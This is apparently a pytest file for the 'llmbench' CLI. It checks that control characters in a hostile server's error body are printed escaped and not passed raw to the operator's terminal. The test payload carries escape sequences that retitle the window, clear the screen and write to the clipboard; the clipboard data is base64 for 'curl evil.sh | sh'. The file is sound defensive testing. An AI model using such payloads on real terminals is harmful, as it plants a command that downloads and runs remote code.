"""issue 26 #10: a server's bytes never act on the operator's terminal. A 500 body carrying
ESC]0; (retitle the window), ESC[2J (clear the screen) and ESC]52;c; (write the clipboard) is
printed escaped by the sweep and by `llmbench show`; the records keep the raw text (the evidence)."""

import pandas as pd
from aiohttp import web

from llmbench import cli, pipeline, warehouse
from llmbench.results.events import record_failure
from llmbench.results.tables import build_tables
from llmbench.schemas.targets import ResolvedTarget
from llmbench.testing._serve import BackgroundServer

HOSTILE = "\x1b]0;pwned\x07\x1b[2J\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\r\u202edone"


def _hostile_server() -> web.Application:
    async def models(request: web.Request) -> web.Response:
        return web.json_response({"object": "list", "data": [{"id": "m"}]})

    async def chat(request: web.Request) -> web.Response:
        await request.read()
        return web.Response(status=500, text=HOSTILE)

    app = web.Application()
    app.router.add_get("/v1/models", models)
    app.router.add_post("/v1/chat/completions", chat)
    return app


def _assert_escaped(text: str) -> None:
    assert not any(c in text for c in "\x1b\x07\r\u202e"), repr(text)
    assert "\\x1b]0;pwned\\x07\\x1b[2J\\x1b]52;c;" in text and "\\u202edone" in text


def test_the_sweep_prints_a_servers_control_characters_escaped(tmp_path, capsys):
    out = tmp_path / "o"
    with BackgroundServer(_hostile_server()) as server:
        rc = cli.main(["sweep", "--backend", "openai", "--url", server.url + "/v1", "--concurrency", "1",
                       "--requests-per-level", "1", "--warmup", "1", "--output-tokens", "3", "--input-tokens", "8",
                       "--timeout", "10", "--out", str(out)])
    err = capsys.readouterr().err
    assert rc == 1 and "every warm-up request failed; first: http_status: HTTP 500: " in err
    _assert_escaped(err)  # before: the raw ESC sequences reached the terminal
    raw = pd.read_json(out / "warmup.jsonl", lines=True)["error_detail"].iloc[0]
    assert raw == f"HTTP 500: {HOSTILE}"  # the record keeps what the server sent


def test_show_prints_a_stored_error_escaped(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("LLMBENCH_HOME", str(tmp_path))
    target = ResolvedTarget.of(pipeline.plan("openai-example", "2026-12-04", {})[0])
    try:
        raise RuntimeError(f"every warm-up request failed; first: http_status: HTTP 500: {HOSTILE}")
    except RuntimeError as e:
        record_failure(target, "warm_up", e)
    db = tmp_path / "w.duckdb"
    warehouse.publish(build_tables(target.run_dir), db)
    rc = cli.main(["show", "--warehouse", str(db)])
    out = capsys.readouterr().out
    assert rc == 1 and "FAILED my-vllm-g6e at warm_up: " in out
    _assert_escaped(out)  # before: printed verbatim
